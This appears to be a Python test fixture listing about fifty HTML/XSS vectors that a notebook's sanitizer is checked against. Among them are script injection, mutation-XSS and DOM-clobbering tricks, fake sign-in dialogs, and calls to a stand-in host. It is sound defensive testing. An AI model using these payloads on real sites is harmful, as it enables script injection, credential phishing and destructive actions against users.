"""What a stranger's notebook might hold in place of a form, each told from the others by its name."""

# Whatever runs tells of it; whatever is asked for is heard by the test's server.
RUN = "window.ran=(window.ran||[]).concat('{}')"


def _run(name):
    return RUN.format(name)


VECTORS = {
    name: html.replace("RUN", _run(name)).replace("SEEN", f"https://elsewhere.invalid/{name}")
    for name, html in {
        "script": "<script>RUN</script>",
        "module": '<script type="module">RUN</script>',
        "script-from-elsewhere": '<script src="SEEN"></script>',
        "script-of-two-types": '<script type="application/json" type="text/javascript">RUN</script>',
        "data-script-with-source": '<script type="application/json" src="SEEN">RUN</script>',
        "script-in-a-folded-part": '<script type="text/html"><img src=x onerror="RUN"></script>',
        "script-folded-in-a-template": '<template data-text="a"><script>RUN</script></template>',
        "import-map": '<script type="importmap">{"imports": {"a": "SEEN"}}</script>',
        "speculation": '<script type="speculationrules">{"prefetch": [{"urls": ["SEEN"]}]}</script>',
        "image": '<img src="SEEN" onerror="RUN">',
        "picture": '<picture><source srcset="SEEN"><img onload="RUN" src="SEEN"></picture>',
        "drawing": '<svg onload="RUN"><script>RUN</script><image href="SEEN" /></svg>',
        "drawing-in-motion": '<svg><a><animate attributeName="href" values="javascript:RUN" /></a></svg>',
        "formula": '<math><maction actiontype="statusline" href="javascript:RUN">a</maction></math>',
        "reparsed": '<math><mtext><table><mglyph><style><img src=x onerror="RUN"></style></table></math>',
        "reparsed-without-scripts": '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
        "comment": '<!--><img src=x onerror="RUN">-->',
        "frame": '<iframe srcdoc="<script>parent.ran=[1]</script>" src="SEEN"></iframe>',
        "object": '<object data="SEEN"><embed src="SEEN"></object>',
        "sound": '<video src="SEEN" autoplay onerror="RUN"></video><audio src="SEEN" autoplay></audio>',
        "refresh": '<meta http-equiv="refresh" content="0; url=SEEN">',
        "ground": '<base href="https://elsewhere.invalid/">',
        "sheet": '<link rel="stylesheet" href="SEEN"><link rel="prefetch" href="SEEN">',
        "style": "<style>@import 'SEEN'; body { background: url(SEEN) !important }</style>",
        "own-style": '<p style="position: fixed; inset: 0; background: url(SEEN)">Sign in</p>',
        "handler": '<p onclick="RUN" onpointerenter="RUN" onfocus="RUN" tabindex="0" autofocus>a</p>',
        "opening": '<details open ontoggle="RUN"><summary>a</summary></details>',
        "focus": '<input autofocus onfocus="RUN"><select autofocus onfocus="RUN"></select>',
        "motion": '<p style="animation: none" onanimationstart="RUN" ontransitionend="RUN">a</p>',
        "link": '<a href="javascript:RUN">a</a><a href=" java&#10;script:RUN">a</a>',
        "link-to-data": '<a href="data:text/html,<script>RUN</script>" download>a</a>',
        "link-to-the-server": '<a href="/lab?reset">a</a><a href="../api/shutdown">a</a><a href="//elsewhere.invalid/a">a</a>',
        "pinged-link": '<a href="https://elsewhere.invalid/" ping="SEEN" onclick="RUN">a</a>',
        "map": '<map name="m"><area href="javascript:RUN"></map><img usemap="#m" src="SEEN">',
        "sent-form": '<form action="SEEN" method="post" target="_blank"><input name="a"><button>Check</button></form>',
        "form-sent-elsewhere": '<form><button formaction="javascript:RUN" type="submit">Check</button></form>',
        "button-far-from-its-form": '<form id="far-form" action="SEEN"></form><button form="far-form">a</button>',
        "command": '<button data-commandlinker-command="apputils:reset" data-commandlinker-args="{}">a</button>',
        "command-of-a-link": '<a href="#a" data-commandlinker-command="filebrowser:delete">a</a>',
        "invoked": '<button commandfor="jp-main-dock-panel" command="toggle-popover" popovertarget="x-y">a</button><div popover id="x-y">a</div>',
        "clobbered-document": '<form name="body"></form><img name="cookie"><form id="location"></form>',
        "clobbered-window": '<a id="require" href="https://elsewhere.invalid/"></a><p id="jupyterapp"></p>',
        "taken-name": '<p id="jp-main-dock-panel">a</p><p id="jupyter-config-data">{}</p>',
        "chrome": '<div class="jp-Dialog lm-Widget jp-mod-styled"><button class="jp-Dialog-button">Sign in</button></div>',
        "dialog": '<dialog open>Sign in <input type="password" autocomplete="cc-number"></dialog>',
        "role": '<div role="alertdialog" aria-modal="true">Sign in</div>',
        "written-anew": '<p contenteditable accesskey="s" draggable="true" is="x-y" slot="a">a</p>',
        "shadow": '<div><template shadowrootmode="open"><script>RUN</script></template></div>',
        "own-element": '<x-y onclick="RUN"><script>RUN</script></x-y>',
        "plain-text": "<plaintext><xmp><img src=x onerror=RUN></xmp>",
        "deep": "<div>" * 3000 + '<img src=x onerror="RUN">',
    }.items()
}
